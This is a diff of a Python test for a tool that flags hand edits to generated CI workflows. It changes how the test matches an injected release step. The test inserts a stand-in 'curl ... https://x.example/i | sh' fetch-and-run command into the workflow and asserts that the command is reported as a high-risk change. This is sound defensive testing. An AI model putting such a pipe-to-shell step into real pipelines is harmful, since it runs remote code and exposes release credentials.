@@ -252,7 +252,7 @@ def verdict_of(repo: Path, *args: str, compiled: bool = True) -> tuple[int, str]
     return code, out.splitlines()[1]
 
 
-RELEASE_RUN = "run: aws s3 cp dist/release.zip"
+RELEASE_RUN = "aws s3 cp dist/release.zip"
 
 
 def test_a_hand_edit_of_a_generated_workflow_is_high(repo: Path) -> None:
@@ -261,7 +261,7 @@ def test_a_hand_edit_of_a_generated_workflow_is_high(repo: Path) -> None:
     assert RELEASE_RUN in text
     workflow.write_text(
         text.replace(
-            RELEASE_RUN, "run: curl -sSf https://x.example/i | sh; aws s3 cp dist/release.zip"
+            RELEASE_RUN, "curl -sSf https://x.example/i | sh; aws s3 cp dist/release.zip"
         )
     )
     git(repo, "commit", "-q", "-am", "tweak the release")
@@ -277,9 +277,10 @@ def test_a_hand_edit_of_a_generated_workflow_is_high(repo: Path) -> None:
             "the spec compiles to",
         }
     ]
-    assert (
-        "+        run: curl -sSf https://x.example/i | sh;" in result["drift"]["edited"][0]["diff"]
-    )
+    added = [
+        line for line in result["drift"]["edited"][0]["diff"].splitlines() if line.startswith("+ ")
+    ]
+    assert any("curl -sSf https://x.example/i | sh;" in line for line in added)
     assert verdict_of(repo, compiled=False) == (
         0,
         "verdict: 1 high-risk change needs a careful review",
